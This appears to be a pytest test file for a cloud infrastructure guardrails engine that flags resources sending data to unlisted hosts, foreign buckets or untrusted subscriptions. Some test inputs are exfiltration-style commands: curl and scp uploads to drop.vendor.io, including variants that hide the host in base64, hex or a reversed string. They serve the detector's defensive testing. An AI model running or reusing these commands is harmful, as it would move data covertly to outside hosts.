"""Names in any text: what is read as a host, bucket or recipient, what is none, and who is known."""

from typing import Any

import pytest
from guardrails.engine.enforcement import Enforcement
from guardrails.readers.named_hosts import named_in
from guardrails.residency.accepted_connections import CONNECTIONS

from tests.processor_time import within

from .harness import UNKNOWN, Given, Pack, blocking, secret
from .sdk_paths import has_path

OURS = "/subscriptions/00000000-0000-0000-0000-000000000001"
THEIRS = "/subscriptions/99999999-0000-0000-0000-000000000001"
PACK = Pack(Enforcement.model_validate({
    "default": {"all": "disabled", "residency": "mandatory", "FJ-IDN-213": "mandatory", "FJ-ENC-426": "mandatory"},
    "residency": {"known": {"example.ae": "our own domain, in Abu Dhabi", "@example.ae": "our own mail",
                            "bank-archive": "our own bucket", "tgw-attach-0777": "our partner's, in Dubai"}},
    "escape": {"code_sources": {"https://git.partner.com/apps": "the partner's programs"}},
    "identity": {"trusted": {OURS: "our own subscription", "login.partner.com": "the partner's issuer"}}}))  # fmt: skip
QUEUE, ATTACHMENT = "aws:sqs/queue:Queue", "aws:ec2transitgateway/vpcAttachmentAccepter:VpcAttachmentAccepter"
CONFIG_MAP = "kubernetes:core/v1:ConfigMap"


def refused(token: str, props: dict[str, Any], *plan: Given, **more: Any) -> set[str]:
    given = Given(token, props, **more)
    return blocking(PACK.evaluate_resource(given) + PACK.evaluate_stack(given, *plan))


@pytest.mark.parametrize(
    ("text", "names"),
    [
        ("bank.edge-saas.io", {"bank.edge-saas.io"}),
        ("BANK.Edge-SaaS.io.", {"bank.edge-saas.io"}),
        ("*.vendor.io", {"vendor.io"}),
        ("curl -T x drop.vendor.io", {"drop.vendor.io"}),
        ("H=1; curl https://$H.vendor.io/x", {"place-holder.vendor.io"}),
        ("outbound|443||intake.vendor.io", {"intake.vendor.io"}),
        ("tcp:sql.vendor.io,1433", {"sql.vendor.io"}),
        ("//files.vendor.io/in", {"files.vendor.io"}),
        ("forward . 185.228.168.9", {"185.228.168.9"}),
        ("203.0.113.7", {"203.0.113.7"}),
        ("curl $(echo aHR0cHM6Ly9kcm9wLnZlbmRvci5pby9pbg== | base64 -d)", {"drop.vendor.io"}),
        ("curl ${SINK:-https://drop.vendor.io/in}", {"drop.vendor.io"}),
        ("curl ${SINK:-drop.vendor.io}", {"drop.vendor.io"}),
        ("bytes.fromhex('68747470733a2f2f64726f702e76656e646f722e696f')", {"drop.vendor.io"}),
        (r"printf '\x64\x72\x6f\x70\x2e\x61\x2d\x62\x2e\x63\x6f'", {"drop.a-b.co"}),
        ("u = 'oi.rodnev.pord//:sptth'[::-1]", {"drop.vendor.io"}),
        ("https://%64rop.io/", {""}),
        ("http://3405803785/", {"3405803785"}),
        ("evil\u3002io", {"evil.io"}),
        ("someone@mail-box.io", {"mail-box.io"}),
        ("scp a u@drop.vendor.io:/x", {"drop.vendor.io"}),
        ("s3://their-lake/x", {"their-lake"}),
        ("https://their-lake.s3.me-central-1.amazonaws.com/x", {"their-lake"}),
        ("db.prod:5432", {"db.prod"}),
        ("a.b-c.store", {"a.b-c.store"}),
    ],
)
def test_what_a_text_names(text: str, names: set[str]) -> None:
    assert {item.name for item in named_in(text)} == names


@pytest.mark.parametrize(
    "text",
    [
        "python main.py --level=log.info(x)", "import os.name", "/opt/vendor.io/run", "./drop.sh",
        "com.amazonaws.services",
        "Microsoft.Network/virtualNetworks", "10.0.0.0/8", "https://${HOST}/x", "https://{host}/x",
        "https://", "sqlite:////data/x.db", "file:///etc/x", "oci://registry.vendor.io/x", "vendor.io: a key", "1.2.3",
        "sha256:68747470733a2f2fff726f702e76656e646f722e696f68747470733a2f2f64726f", "0123456789abcdef",
        "--lr=${trialParameters.lr}", "{{ .Values.io }}", "redis.cache", "from collections.abc import Iterator",
        "m6g.large", "",
    ],
)  # fmt: skip
def test_what_names_nothing(text: str) -> None:
    assert named_in(text) == ()


@pytest.mark.parametrize("text", ["a.", "x.io ", "://", "a://", "${", "s3.", "@a.io", "<a", "1.1.1.1.", "-.", "//a.io"])
def test_the_time_is_linear(text: str) -> None:
    with within(3):
        named_in(text * (200_000 // len(text)))


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("vendor.io", {"FJ-RES-003"}),
        (secret("vendor.io"), {"FJ-RES-003"}),
        ({"deep": [{"er": "vendor.io:443"}]}, {"FJ-RES-003"}),
        ("ops@vendor.io", {"FJ-RES-003"}),
        ("api.example.ae", set()),
        ("ops@example.ae", set()),
        ("git.partner.com", set()),
        ("login.partner.com", set()),
        ("orders.shop.svc.cluster.local", set()),
        ("sqs.me-central-1.amazonaws.com", set()),
        ("sqs.eu-west-1.amazonaws.com", {"FJ-RES-104"}),
        ("topology.kubernetes.io/zone", set()),
        ("https://www.w3.org/2001/XMLSchema", set()),
        (UNKNOWN, set()),
        (None, set()),
        (7, set()),
    ],
)
def test_every_name_is_known(value: object, expected: set[str]) -> None:
    assert refused(QUEUE, {"anything": value}) == expected


@pytest.mark.parametrize(
    ("token", "props"),
    [
        ("kubernetes:networking.k8s.io/v1:Ingress", {"spec": {"rules": [{"host": "shop.com"}]}}),
        ("aws:route53/record:Record", {"name": "shop.com", "records": ["10.0.0.1"]}),
        ("aws:acm/certificate:Certificate", {"domainName": "shop.com"}),
        ("aws:s3/bucketCorsConfiguration:BucketCorsConfiguration",
        {"corsRules": [{"allowedOrigins": ["https://a.com"]}]}),
        ("kubernetes:apps/v1:Deployment", {"spec": {"containers": [{"image": "quay.io/x/y:1"}]}}),
        ("aws:dms/endpoint:Endpoint", {"endpointType": "source", "serverName": "db.vendor.io"}),
        ("aws:ec2/launchTemplate:LaunchTemplate",
         {"userData": "Content-Type: application/node.eks.aws\n\napiVersion: node.eks.aws/v1alpha1\nkind: NodeConfig"}),
    ],
)  # fmt: skip
def test_names_that_receive_nothing_pass(token: str, props: dict[str, Any]) -> None:
    assert "FJ-RES-003" not in refused(token, props)


@pytest.mark.parametrize(
    ("token", "props"),
    [
        ("kubernetes:networking.k8s.io/v1:Ingress", {"spec": {"x": [{"host": "shop.com"}]}}),
        ("aws:route53/record:Record", {"name": "shop.example.ae", "records": ["shop.com"]}),
        ("aws:acm/certificate:Certificate", {"options": "shop.com"}),
        ("aws:dms/endpoint:Endpoint", {"endpointType": "target", "mongodbSettings": "db.vendor.io"}),
    ],
)
def test_the_same_names_elsewhere_do_not(token: str, props: dict[str, Any]) -> None:
    assert "FJ-RES-003" in refused(token, props)


@pytest.mark.parametrize(
    ("token", "key", "stopped"),
    [
        ("aws:route53/record:Record", "records", True), ("azure-native:network:VirtualNetwork", "dnsServers", True),
        ("aws:ec2/customerGateway:CustomerGateway", "ipAddress", True), (QUEUE, "ipAddress", False),
        ("azure-native:containerservice:ManagedCluster", "authorizedIPRanges", False),
    ],
)  # fmt: skip
def test_an_address_is_a_destination_or_a_caller(token: str, key: str, stopped: bool) -> None:
    assert ("FJ-RES-003" in refused(token, {key: ["203.0.113.7"]})) == stopped
    assert "FJ-RES-003" not in refused(token, {key: ["10.0.0.7"]})


def test_buckets_of_another_stack_are_listed_by_their_beginning() -> None:
    known = {"platform-*": "buckets of the platform's stack"}
    pack = Pack(Enforcement.model_validate({"default": {"all": "mandatory"}, "residency": {"known": known}}))
    for bucket, stopped in (("platform-models-58da386", False), ("other-platform-1", True)):
        given = Given(CONFIG_MAP, {"data": {"uri": f"s3://{bucket}/m"}})
        assert ("FJ-RES-003" in blocking(pack.evaluate_plan(given))) == stopped


def test_a_bucket_is_in_the_plan_or_listed() -> None:
    bucket = Given("aws:s3/bucket:Bucket", {"bucket": "own-lake"}, "own")
    abroad = Given("aws:s3/bucket:Bucket", {"bucket": "own-lake", "region": "eu-west-1"}, "own")
    props = {"definition": '{"Parameters": {"Bucket": "own-lake"}, "to": "s3://bank-archive/x"}'}
    assert "FJ-RES-003" in refused(QUEUE, props)
    assert "FJ-RES-003" not in refused(QUEUE, props, bucket)
    assert "FJ-RES-003" in refused(QUEUE, props, abroad)
    assert "FJ-RES-003" not in refused(QUEUE, {"target": "s3://any/x"}, bucket, links={"target": ("own",)})


@pytest.mark.parametrize(
    ("data", "stopped"),
    [
        ({"to": "s3://runs/x"}, True), ({"to": "s3://bank-archive/x"}, False), ({"S3_BUCKET": "runs"}, True),
        ({"S3_BUCKET": "bank-archive"}, False), ({"bucket": "runs"}, False), ({"BUCKET_COUNT": "runs"}, False),
        ({"to": "https://runs.s3.me-central-1.amazonaws.com/x"}, True),
    ],
)  # fmt: skip
def test_buckets_in_settings_of_programs_in_clusters(data: dict[str, str], stopped: bool) -> None:
    assert ("FJ-RES-003" in refused(CONFIG_MAP, {"data": data})) == stopped


@pytest.mark.parametrize(
    ("value", "stopped"),
    [
        (f"{THEIRS}/resourceGroups/rg", True), (f"{THEIRS}/resourceGroups/rg".upper(), True),
        (f"az copy {THEIRS}/x", True), (f"{OURS}/resourceGroups/rg", False), (OURS.upper(), False),
        ("/subscriptions/x/resourceGroups/rg", False), (UNKNOWN, False),
    ],
)  # fmt: skip
def test_subscriptions_are_ones_own_or_listed(value: object, stopped: bool) -> None:
    for token in ("azure-native:network:StaticMember", CONFIG_MAP, QUEUE):
        assert ("FJ-IDN-213" in refused(token, {"anything": [value]})) == stopped
    key = {"subscriptionID": str(value).rpartition("subscriptions/")[2].partition("/")[0]}
    assert "FJ-IDN-213" not in refused(CONFIG_MAP, {"subscriptionID": OURS.rpartition("/")[2]})
    assert key != {"subscriptionID": THEIRS.rpartition("/")[2]} or "FJ-IDN-213" in refused(CONFIG_MAP, key)


def test_a_confirmed_resource_of_another_subscription_may_be_named() -> None:
    pack = Pack(Enforcement.model_validate({
        "default": {"all": "disabled", "FJ-IDN-213": "mandatory"},
        "residency": {"known": {f"{THEIRS}/resourceGroups/hub": "our hub, in uaenorth"}},
        "identity": {"trusted": {OURS: "our own subscription"}}}))  # fmt: skip
    member = Given("azure-native:network:StaticMember", {"resourceId": f"{THEIRS}/resourceGroups/hub/x"})
    assert blocking(pack.evaluate_resource(member)) == set()
    provider = Given("pulumi:providers:azure-native", {"subscriptionId": THEIRS.rpartition("/")[2]})
    assert blocking(pack.evaluate_resource(provider)) == {"FJ-IDN-213"}


def test_the_subscription_of_the_provider_is_ones_own_and_must_be_listed() -> None:
    theirs = THEIRS.rpartition("/")[2]
    member = "azure-native:network:StaticMember"
    assert refused(member, {"resourceId": f"{THEIRS}/x"}, provider={"subscriptionId": theirs}) == set()
    assert "FJ-IDN-213" in refused("pulumi:providers:azure-native", {"subscriptionId": theirs})
    assert "FJ-IDN-213" not in refused("pulumi:providers:azure-native", {"subscriptionId": OURS.rpartition("/")[2]})


def test_an_accepted_connection_is_of_the_plan_or_listed() -> None:
    key = "transitGatewayAttachmentId"
    asked = Given("aws:ec2transitgateway/vpcAttachment:VpcAttachment", {"vpcId": "vpc-1"}, "spoke")
    assert refused(ATTACHMENT, {key: "tgw-attach-0123"}) == {"FJ-RES-113"}
    assert refused(ATTACHMENT, {key: UNKNOWN}) == {"FJ-RES-113"}
    assert refused(ATTACHMENT, {key: "tgw-attach-0777"}) == set()
    assert refused(ATTACHMENT, {key: UNKNOWN}, asked, links={key: ("spoke",)}) == set()


def test_a_private_service_is_of_the_cloud_or_listed() -> None:
    endpoint = "aws:ec2/vpcEndpoint:VpcEndpoint"
    assert refused(endpoint, {"serviceName": "com.amazonaws.me-central-1.s3"}) == set()
    assert refused(endpoint, {"serviceName": UNKNOWN}) == set()
    assert refused(endpoint, {"serviceName": "com.amazonaws.vpce.me-central-1.vpce-svc-0a1b"}) == {"FJ-RES-113"}


def test_the_properties_of_connections_exist() -> None:
    assert [token for token, (path, _) in CONNECTIONS.items() if not has_path(token, path)] == []


@pytest.mark.parametrize(
    ("props", "stopped"),
    [
        ({"encryptionMode": "no_encrypt"}, True), ({"a": {"sslSecurityProtocol": "plaintext"}}, True),
        ({"signingAlgorithm": "NONE"}, True), ({"encryptionMode": "must_encrypt"}, False),
        ({"designMode": "none"}, False), ({"mode": "none"}, False), ({"sslPolicyName": "none"}, False),
    ],
)  # fmt: skip
def test_no_property_switches_encryption_off(props: dict[str, Any], stopped: bool) -> None:
    assert ("FJ-ENC-426" in refused(QUEUE, props)) == stopped


RECORD = "aws:route53/record:Record"
CAA = "azure-native:dns:RecordSet"
SIGNED = "kubernetes:policies.kyverno.io/v1:ImageValidatingPolicy"


@pytest.mark.parametrize(
    ("token", "props", "stopped"),
    [
        (RECORD, {"type": "TXT", "records": ["v=spf1 include:amazonses.com -all"]}, False),
        (RECORD, {"type": "TXT", "records": ["v=spf1 include:vendor.io -all"]}, True),
        (RECORD, {"type": "CAA", "records": ['0 issue "letsencrypt.org"']}, False),
        (RECORD, {"type": "CAA", "records": ['0 iodef "mailto:a@vendor.io"']}, True),
        (RECORD, {"type": "TXT", "records": ['0 issue "vendor.io"']}, True),
        (CAA, {"caaRecords": [{"tag": "issue", "value": "digicert.com"}]}, False),
        (CAA, {"caaRecords": [{"tag": "issue", "value": "a.com"}, {"tag": "iodef", "value": "vendor.io"}]}, True),
        (RECORD, {"type": "CNAME", "records": ["abc1.dkim.me-central-1.amazonses.com"]}, False),
        (RECORD, {"type": "CNAME", "records": ["abc1.dkim.eu-west-1.amazonses.com"]}, True),
        (QUEUE, {"a": "https://graph.microsoft.com/oidc/userinfo"}, False),
        (QUEUE, {"a": "https://graph.microsoft.com/oidc/userinfo/../v1.0"}, True),
        (SIGNED, {"spec": {"validations": [{"expression": "verifyImageSignatures(image, [attestors.bank]) > 0"}]}},
        False),
        (SIGNED, {"spec": {"validations": [{"expression": "http.Get('attestors.bank/a')"}]}}, True),
        (SIGNED, {"spec": {"validations": [{"expression": "verifyImageSignatures(image, ['vendor.io'])"}]}}, True),
        (QUEUE, {"a": "curl -T x https://gitlab.com/api/v4/projects/1/uploads"}, True),
        ("aws:iam/openIdConnectProvider:OpenIdConnectProvider", {"url": "https://gitlab.com"}, False),
        (CONFIG_MAP, {"data": {"a.json": '{"links": [{"url": "https://vendor.io/a"}]}'}}, False),
        (CONFIG_MAP, {"data": {"a.yaml": '{"links": [{"url": "https://vendor.io/a"}]}'}}, True),
        (CONFIG_MAP, {"data": {"a.json": '{"sinks": [{"url": "https://vendor.io/a"}]}'}}, True),
        (QUEUE, {"DJANGO_SETTINGS_MODULE": "orders.settings.prod"}, False),
        (QUEUE, {"DJANGO_SETTINGS_MODULE": "drop.vendor.io"}, True),
        (QUEUE, {"HOST": "orders.settings.prod"}, True),
        (QUEUE, {"args": ["-m", "orders.jobs.run"]}, False),
        (QUEUE, {"args": ["-m", "drop.vendor.io"]}, True),
        (QUEUE, {"args": ["-T", "orders.jobs.run"]}, True),
        (QUEUE, {"attributes": ["k8s.namespace.name"]}, False),
        (QUEUE, {"server": "k8s.namespace.name"}, True),
        (QUEUE, {"a": "drop.vendor.name"}, True),
        (QUEUE, {"a": "http://me-central-1.ec2.archive.ubuntu.com/ubuntu"}, False),
        (QUEUE, {"a": "http://mine.archive.ubuntu.com/ubuntu"}, True),
        (QUEUE, {"a": "https://acme-v02.api.letsencrypt.org/directory"}, False),
        (QUEUE, {"a": "168.63.129.16"}, False),
        ("aws:cloudwatch/metricAlarm:MetricAlarm", {"alarmDescription": "See https://vendor.io/a"}, False),
        ("aws:cloudwatch/metricAlarm:MetricAlarm", {"alarmActions": ["https://vendor.io/a"]}, True)],
)  # fmt: skip
def test_links_modules_and_publishers_receive_nothing(token: str, props: dict[str, Any], stopped: bool) -> None:
    assert bool({"FJ-RES-002", "FJ-RES-003", "FJ-RES-104", "FJ-RES-112"} & refused(token, props)) == stopped
